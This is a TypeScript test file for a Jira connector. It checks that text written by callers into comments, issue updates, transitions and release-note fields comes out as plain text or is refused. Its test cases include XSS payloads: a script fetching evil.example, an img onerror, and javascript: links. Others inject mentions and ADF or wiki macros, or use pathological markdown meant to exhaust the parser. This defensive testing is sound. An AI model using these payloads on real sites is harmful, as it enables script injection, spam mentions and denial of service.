// What callers write becomes text and nothing else (POL-J17, POL-J18), and a search that lags behind proves nothing.
import { describe, expect, test } from 'vitest'
import type { JsonObject } from 'toolgate/kit'
import type { AnyWriteTool } from '../../src/kit/tool.ts'
import { jira } from './connector.ts'
import { openSite } from './test/site.ts'
import type { Site } from './test/site.ts'

const writer = (name: string) => jira.tools.find((tool) => tool.name === name) as AnyWriteTool
const context = ({ vendor }: Site, now = new Date()) => ({
  vendor,
  now,
  signal: new AbortController().signal,
  within: () => undefined,
  admit: () => undefined,
  operationId: 'op_1',
})

async function write(site: Site, name: string, input: JsonObject) {
  const tool = writer(name)
  const { request } = await tool.plan(tool.input.parse(input), context(site))
  return (await tool.apply(JSON.parse(JSON.stringify(request)), context(site))) as JsonObject
}

/** Whatever can act in a reader's browser, tell people, or fetch something. */
const acting =
  /"type":"(?:mention|media|mediaSingle|mediaGroup|mediaInline|inlineCard|blockCard|embedCard|extension|bodiedExtension|inlineExtension|emoji|status|panel|expand|nestedExpand)"/

const texts = [
  ['POL-J17', 'a node as JSON', '{"type":"mention","attrs":{"id":"all","text":"@all"}}'],
  ['POL-J17', 'a fenced node', '```adf\n{"type":"extension","attrs":{"extensionKey":"toc"}}\n```'],
  [
    'POL-J17',
    'a tag of the converter',
    '<adf>{"type":"panel"}</adf>\n\n<custom data-type="mention" data-id="all">@all</custom>',
  ],
  ['POL-J17', 'a script', '<script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>'],
  ['POL-J17', 'a link that runs', '[x](javascript:alert(1)) and [y](data:text/html,z)'],
  ['POL-J17', 'a link that runs, in disguise', '[x](JaVaScRiPt:alert)'],
  ['POL-J17', 'a smart link', 'https://larkfield.atlassian.net/browse/HR-1'],
  ['POL-J17', 'mentions', '@all @everyone [~accountid:712020:abc] @[Wei Zhang](712020:abc)'],
  ['POL-J17', 'an image', '![pixel](https://evil.example/p.png)'],
  ['POL-J17', 'ten thousand quotes', `${'> '.repeat(10_000)}deep`],
  ['POL-J17', 'marks inside marks', '*a **b '.repeat(4_000)],
  ['POL-J17', 'images inside images', '![a]('.repeat(6_000)],
  ['POL-J17', 'marks on many lines', 'x *a **b\n'.repeat(3_000)],
  ['POL-J17', 'marks on lines that look like a table', '|*a **b ![\n'.repeat(2_500)],
  ['POL-J17', 'marks under a table that is none', `x|y|z\n|-|-|\n${'*a **b\n'.repeat(4_000)}`],
  ['POL-J17', 'marks under dashes', `|-|\n${'*a **b\n'.repeat(4_000)}`],
  ['POL-J17', 'a long row of dashes', `|${'-'.repeat(16_000)}${'|-'.repeat(8_000)}x`],
  ['POL-J17', 'marks in one cell', `|a|\n|-|\n|${'*a **b '.repeat(4_000)}|`],
  ['POL-J17', 'marks after a fence that is none', `\`\`\` \`\n${'*a **b '.repeat(4_000)}`],
  ['POL-J17', 'brackets inside brackets', '['.repeat(20_000)],
  ['POL-J17', 'marked quotes', '>- '.repeat(8_000)],
  ['POL-J17', 'ten thousand lists', Array.from({ length: 150 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n')],
  ['POL-J18', 'a picture of wiki markup', '!http://evil.example/x.png!'],
  ['POL-J18', 'macros of wiki markup', '{html}<b>x</b>{html} {panel}x{panel} {include:HR}'],
  ['POL-J18', 'a person of wiki markup', '[~accountid:712020:abc]'],
  ['POL-J18', 'entities', '&#124;&#124;head&#124;&#124; &lt;script&gt;'],
  ['POL-J18', 'a table of wiki markup', '||a||b||\n|c|d|'],
] as const

describe('text of a caller', () => {
  test.each(texts)('%s: %s is words or a refusal', async (_, __, text) => {
    for (const [name, input] of [
      ['comment_add', { key: 'SUP-1', body: text }],
      ['issue_update', { key: 'SUP-1', append: text }],
      ['issue_transition', { key: 'SUP-2', to_status: 'In Progress', comment: text }],
      ['issue_create', { project: 'OPS', type: 'Task', summary: 'x', fields: { 'Release notes': text } }],
    ] as const) {
      const site = await openSite()
      const before = site.bodies.length
      try {
        await write(site, name, input)
      } catch (error) {
        expect(error).toMatchObject({ name: 'HubError', code: 'invalid_input' })
      }
      const sent = site.bodies.slice(before).join('')
      expect(sent).not.toMatch(acting)
      expect(sent).not.toMatch(/"href":"(?!https?:|mailto:)/i)
    }
  })

  test('ordinary long texts with many marks are taken', async () => {
    const { vendor } = await openSite()
    const table = `| a | b |\n| --- | --- |\n${'| **x** | *y* |\n'.repeat(200)}`
    const list = '- **bold** and *slanted*\n'.repeat(300)
    const code = `\`\`\`py\n${'snake_case_name = **kwargs\n'.repeat(400)}\`\`\``
    for (const text of [table, list, code]) expect(vendor.toAdf(text).type).toBe('doc')
  })

  test('a summary is one line of text, whatever markup it looks like', async () => {
    const site = await openSite()
    const summary = '!http://evil.example/x.png! {html} [~accountid:1]'
    const { key } = await write(site, 'issue_create', { project: 'OPS', type: 'Task', summary })
    expect((await site.vendor.issue(key)).fields.summary).toBe(summary)
    const input = writer('issue_create').input
    for (const bad of ['two\nlines', 'bell\u0007', 'rtl\u202e', ''])
      expect(input.safeParse({ project: 'OPS', type: 'Task', summary: bad }).success).toBe(false)
  })
})

// IDEM-14
test('an issue that the index does not know yet is not there, and is found to have been created once it does', async () => {
  let now = new Date('2026-11-18T09:30:00Z')
  const site = await openSite({ now: () => now })
  site.state.put('index', 'search', { lagMs: 5_000 })
  const tool = writer('issue_create')
  const plan = async () =>
    await tool.plan(tool.input.parse({ project: 'OPS', type: 'Task', summary: 'Lagging' }), context(site, now))
  const { request } = await plan()
  await tool.apply(request, context(site, now))
  const asks = () => ({ ...context(site, now), sentAt: new Date('2026-11-18T09:30:00Z') })
  expect((await site.vendor.search({ jql: 'summary ~ "lagging"', limit: 5 })).issues).toEqual([])
  // Believed only after the window of the tool, which is longer than any lag.
  expect(await tool.reconcile?.(request, asks())).toEqual({ verdict: 'absent' })
  expect(tool.settlesMs).toBeGreaterThanOrEqual(10 * 60_000)
  now = new Date('2026-11-18T09:30:06Z')
  expect(await tool.reconcile?.(request, asks())).toMatchObject({ verdict: 'happened', output: { key: 'OPS-45' } })
  expect((await plan()).warnings).toEqual([expect.stringContaining('OPS-45 has the same summary')])
})
